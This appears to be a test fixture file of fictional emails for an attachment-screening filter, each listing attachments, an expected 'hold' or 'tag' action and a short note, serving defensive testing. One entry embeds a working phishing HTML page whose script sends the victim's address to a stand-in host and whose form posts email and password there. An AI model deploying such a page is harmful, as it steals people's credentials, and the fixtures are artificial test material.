@@ -1,0 +1,145 @@
+MESSAGES = [
+{
+    "id": "at-exe-posing-as-remittance",
+    "from": "Lorraine Tait <lorraine@jesmondhair.example>",
+    "to": ["Accounts <accounts@tynelinen.example>"],
+    "subject": "Remittance advice - October",
+    "date": "2026-11-02 10:02",
+    "body": [
+        "Hi,",
+        "Please find October's remittance attached.",
+        "Kind regards,\nLorraine Tait\nClinic Manager",
+    ],
+    "attachments": [
+        {"kind": "program", "name": "Remittance_Oct2026.pdf.exe", "flavour": "exe"},
+    ],
+    "accept": ["hold"], "categories": ["attachment"],
+    "note": "A Windows program with a double extension posing as a PDF.",
+},
+{
+    "id": "at-js-in-zip-lab-results",
+    "from": "Dariusz Nowak <darek@jesmondhair.example>",
+    "to": ["Tynebridge Trichology Lab <results@tynebridgelab.example>"],
+    "subject": "FW: scan files",
+    "date": "2026-11-03 14:22",
+    "body": [
+        "Hi Moira,",
+        "The microscope software export the trichoscopy images in this zip, I cannot open it on our PC, maybe you can?",
+        "Darek",
+    ],
+    "attachments": [
+        {"kind": "zip", "name": "trichoscopy_export.zip", "members": [
+            {"kind": "text", "name": "readme.txt", "text": ["Open viewer.js to see images."]},
+            {"kind": "program", "name": "viewer.js", "flavour": "js"},
+        ]},
+    ],
+    "accept": ["hold"], "categories": ["attachment"],
+    "note": "A JavaScript file nested in a zip.",
+},
+{
+    "id": "at-bat-script-to-it",
+    "from": "Becca Charlton <becca@jesmondhair.example>",
+    "to": ["Ouseburn IT Helpdesk <help@ouseburnit.example>"],
+    "subject": "is this the fix?",
+    "date": "2026-11-04 09:15",
+    "body": [
+        "Hi, someone on a forum said running this would fix the Outlook password thing.",
+        "Is it safe to run on the reception PC? Attached.",
+        "Becca",
+    ],
+    "attachments": [
+        {"kind": "program", "name": "fix_outlook_password.bat", "flavour": "bat"},
+    ],
+    "accept": ["hold"], "categories": ["attachment"],
+    "note": "A Windows batch script attached.",
+},
+{
+    "id": "at-macro-consent-form",
+    "from": "JHRC Training <training@jhrc-training.example>",
+    "to": ["Owen Tweddle <owen.tweddle@outlook.example>"],
+    "subject": "Consent form template - course day 2",
+    "date": "2026-11-05 16:40",
+    "body": [
+        "Dear Owen,",
+        "Attached is the consent form template we'll work through on day 2; enable editing so the drop-downs work.",
+        "Best wishes,\nJHRC Training",
+    ],
+    "attachments": [
+        {"kind": "program", "name": "Consent_form_template_v5.docx", "flavour": "macro_docx"},
+    ],
+    "accept": ["hold", "tag"], "categories": ["attachment"],
+    "note": "A macro-enabled Word document disguised as .docx.",
+},
+{
+    "id": "at-html-login-redirect",
+    "from": "Becca Charlton <becca@jesmondhair.example>",
+    "to": ["Sue Patterson <sue.patterson@hairlossnorth.example>", "Craig Milburn <craig.milburn@regenexdevices.example>"],
+    "subject": "Shared document: JHRC Q4 schedule",
+    "date": "2026-11-06 03:12",
+    "body": [
+        "Hello,",
+        "A document has been shared with you. Open the attachment to view it.",
+        "Becca",
+    ],
+    "attachments": [
+        {"kind": "html", "name": "JHRC_Q4_schedule.html",
+         "html": "<html><head><meta http-equiv=\"refresh\" content=\"0; url=https://jhrc-docs-login.example/signin\"><script>var u=document.location.hash.slice(1);fetch('https://collect.example/p?e='+u);window.location='https://jhrc-docs-login.example/signin?u='+u;</script></head><body><p>Loading document...</p><form action=\"https://collect.example/post\" method=\"post\"><input name=\"email\"><input type=\"password\" name=\"pw\"></form></body></html>"},
+    ],
+    "accept": ["hold"], "categories": ["attachment"],
+    "note": "HTML attachment running script and redirecting to a credential-harvesting login page.",
+},
+{
+    "id": "at-encrypted-pdf-statement",
+    "from": "Alasdair Pennington <alasdair.pennington@jesmondhair.example>",
+    "to": ["Stephen Coulson <stephen.coulson@newcastle-coroners.example>"],
+    "subject": "COR-26-0731 - statement (password to follow by phone)",
+    "date": "2026-10-16 17:30",
+    "body": [
+        "Dear Mr Coulson,",
+        "My statement is attached as a password-protected PDF; I will telephone you with the password.",
+        "Yours sincerely,\nA. J. Pennington",
+    ],
+    "attachments": [
+        {"kind": "pdf", "name": "Statement_AJPennington_COR-26-0731.pdf", "encrypt": "Tyne-0731!",
+         "pages": [["Statement of Alasdair James Pennington", "I am a consultant hair restoration surgeon practising in Jesmond."]]},
+    ],
+    "accept": ["hold", "tag"], "categories": ["attachment"],
+    "note": "Encrypted PDF that cannot be screened.",
+},
+{
+    "id": "at-encrypted-zip-accountant",
+    "from": "Lorraine Tait <lorraine@jesmondhair.example>",
+    "to": ["Deborah Straughan <debbie@straughanaccounts.example>"],
+    "subject": "payroll files (locked)",
+    "date": "2026-11-07 12:05",
+    "body": [
+        "Hi Debbie, payroll for October in the locked zip, password is the usual one.",
+        "Lorraine",
+    ],
+    "attachments": [
+        {"kind": "zip", "name": "payroll_Oct26.zip", "encrypt": "usual-one-26",
+         "members": [
+            {"kind": "xlsx", "name": "payroll_Oct26.xlsx", "sheets": [{"name": "Payroll", "rows": [["Employee", "Gross"], ["L Tait", "£3,150"], ["K Robson", "£2,480"]]}]},
+         ]},
+    ],
+    "accept": ["hold", "tag"], "categories": ["attachment"],
+    "note": "Encrypted zip that cannot be screened.",
+},
+{
+    "id": "at-corrupt-docx-minutes",
+    "from": "Elif Aksoy-Brennan <elif@jesmondhair.example>",
+    "to": ["Sue Patterson <sue.patterson@hairlossnorth.example>"],
+    "subject": "minutes from the partners' meeting",
+    "date": "2026-11-09 17:48",
+    "body": [
+        "Hi Sue, here are the minutes from Thursday's partners' meeting.",
+        "Word was playing up when I saved it so shout if it doesn't open!",
+        "Elif x",
+    ],
+    "attachments": [
+        {"kind": "program", "name": "Partners_meeting_minutes_Nov.docx", "flavour": "corrupt_docx"},
+    ],
+    "accept": ["hold", "tag"], "categories": ["attachment"],
+    "note": "Corrupt Word file that cannot be read.",
+},
+]
